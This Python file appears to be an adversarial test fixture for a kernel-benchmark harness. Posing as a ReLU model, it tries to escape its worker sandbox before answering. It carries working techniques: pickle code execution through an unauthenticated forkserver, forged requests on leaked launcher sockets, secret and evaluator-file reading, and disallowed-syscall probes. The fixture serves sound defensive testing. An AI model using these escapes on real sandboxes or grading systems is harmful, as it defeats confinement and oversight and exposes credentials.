"""Adversarial fixture (issue 11): tries every way out of its worker it knows; answers ReLU only if none worked,
else raises, naming what it reached (so the record says which defence failed).

- the launcher: ``multiprocessing.forkserver``'s address, every unix socket in ``/proc/net/unix`` (abstract ones
  included), any inherited SEQPACKET socket (a leaked zygote control socket), its parent's descriptors; each found
  launcher is asked for a process that creates ``TARGETS["marker"]`` (a process outside its confinement);
- credentials in its environment (``TARGETS["secrets"]``);
- evaluator-side files (``TARGETS["files"]`` plus every file under the shipped suites' ``evaluator/`` folders);
- system calls a kernel never needs here (``process_vm_readv``, ``name_to_handle_at``, ``keyctl``).

``tests/test_sandbox_escape.py`` appends ``TARGETS`` and evaluates it; the same ``launcher_escapes`` run in a plain
``multiprocessing.forkserver`` child shows the launcher attack working there.
"""

import ctypes
import glob
import json
import os
import pickle
import socket
import time

import torch
import torch.nn as nn

TARGETS = {"marker": "/nonexistent/kbv-escape-marker", "secrets": [], "files": []}


class _Open:
    """Unpickling this opens (creates) a file: code run by whoever unpickles it."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return (open, (self.path, "w"))


def _forkserver_request(address, marker):
    """The fork server's protocol (Python 3.11, unauthenticated): send it pipes, then a pickle it loads."""
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(2)
    s.connect(address)
    from multiprocessing import reduction

    r, w = os.pipe()
    sr, sw = os.pipe()
    alive_r, alive_w = os.pipe()
    reduction.sendfds(s, [r, sw, alive_r, alive_r])
    os.write(w, pickle.dumps(_Open(marker)))
    os.close(w)
    s.close()


def _zygote_request(sock, marker):
    """A leaked launcher control socket: ask for a worker whose spec runs our 'problem' unconfined (if it is the
    parent's end, the zygote forks it; the zygote's own end would let it forge the zygote's replies instead)."""
    import base64

    ours, theirs = socket.socketpair()
    socket.send_fds(sock, [json.dumps({"id": 1}).encode()], [theirs.fileno()])
    source = f"open({marker!r}, 'w').close()\nclass Model: pass\ndef get_inputs(): return []\ndef get_init_inputs(): return []\n"
    header = json.dumps({"__tensors__": [], "body": {
        "role": "reference", "device": "cpu", "problem_path": "/x/1_X.py", "profile": None, "precision": "fp32",
        "mode": "train", "work_dir": "/", "log_path": "/dev/null", "env": {}, "confine": {},
        "problem_source": base64.b64encode(source.encode()).decode()}}).encode()
    from multiprocessing.connection import Connection

    Connection(os.dup(ours.fileno())).send_bytes(header)


def launcher_escapes(marker):
    """Every way kbv's old and new launchers could be reached from a worker; what was reached."""
    found = []
    addresses = []
    try:
        from multiprocessing import forkserver

        if forkserver._forkserver._forkserver_address:
            addresses.append(forkserver._forkserver._forkserver_address)
    except Exception:
        pass
    try:
        with open("/proc/net/unix") as f:
            for line in f.read().splitlines()[1:]:
                parts = line.split()
                if len(parts) >= 8:
                    addresses.append("\0" + parts[7][1:] if parts[7].startswith("@") else parts[7])
    except OSError:
        pass
    for address in dict.fromkeys(addresses):
        try:
            _forkserver_request(address, marker)
            found.append(f"sent a fork request to {address!r}")
        except OSError:
            pass
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            sock = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        try:
            if sock.type == socket.SOCK_SEQPACKET:
                _zygote_request(sock, marker)
                found.append(f"wrote a launcher request on inherited SEQPACKET descriptor {fd}")
        except OSError:
            pass
        finally:
            sock.close()
    ppid = os.getppid()
    if ppid > 1:
        try:
            os.listdir(f"/proc/{ppid}/fd")
            found.append(f"listed the descriptors of its parent {ppid}")
        except OSError:
            pass
    for _ in range(20):
        if os.path.exists(marker):
            found.append("a process outside the worker created the marker")
            break
        time.sleep(0.1)
    return found


def _syscalls():
    libc = ctypes.CDLL(None, use_errno=True)
    found = []
    buf = ctypes.create_string_buffer(8)

    class IoVec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

    local, remote = IoVec(ctypes.cast(buf, ctypes.c_void_p), 8), IoVec(ctypes.cast(buf, ctypes.c_void_p), 8)
    libc.process_vm_readv.restype = ctypes.c_ssize_t
    if libc.process_vm_readv(os.getpid(), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) >= 0:
        found.append("process_vm_readv")
    handle = (ctypes.c_ubyte * 136)()
    ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint))[0] = 128
    mount_id = ctypes.c_int()
    if libc.name_to_handle_at(-100, os.fsencode(os.path.abspath(__file__)), handle, ctypes.byref(mount_id), 0) == 0 or \
            ctypes.get_errno() == 75:  # EOVERFLOW: the call itself was allowed
        found.append("name_to_handle_at")
    libc.syscall.restype = ctypes.c_long
    if libc.syscall(250, 0, -3, 0) >= 0:  # keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING)
        found.append("keyctl")
    return found


def escapes():
    found = launcher_escapes(TARGETS["marker"])
    env = "\0".join(f"{k}={v}" for k, v in os.environ.items())
    found += [f"secret {s[:6]}... in the environment" for s in TARGETS["secrets"] if s in env]
    try:
        import kbv

        shipped = glob.glob(os.path.join(os.path.dirname(kbv.__file__), "suites", "*", "evaluator", "**", "*"),
                            recursive=True)
    except Exception:
        shipped = []
    for path in [*TARGETS["files"], *shipped]:
        try:
            with open(path, "rb") as f:
                if f.read(64):
                    found.append(f"read {path}")
        except OSError:
            pass
    found += [f"system call {name} allowed" for name in _syscalls()]
    return found


_FOUND = []


class ModelNew(nn.Module):
    def forward(self, x):
        if not _FOUND:
            _FOUND.append(escapes())
        if _FOUND[0]:
            raise RuntimeError("escaped: " + "; ".join(_FOUND[0][:12]))
        return torch.relu(x)
